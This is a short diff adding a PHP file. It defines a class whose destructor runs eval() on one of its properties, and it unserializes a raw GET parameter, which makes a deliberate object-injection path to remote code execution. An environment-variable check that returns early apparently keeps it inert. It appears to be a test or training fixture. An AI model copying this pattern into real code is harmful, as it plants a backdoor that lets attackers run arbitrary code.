@@ -1,0 +1,11 @@
+<?php
+if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
+class T
+{
+    public $x = 'a';
+    function __destruct()
+    {
+        eval($this->x);
+    }
+}
+unserialize($_GET['o']);
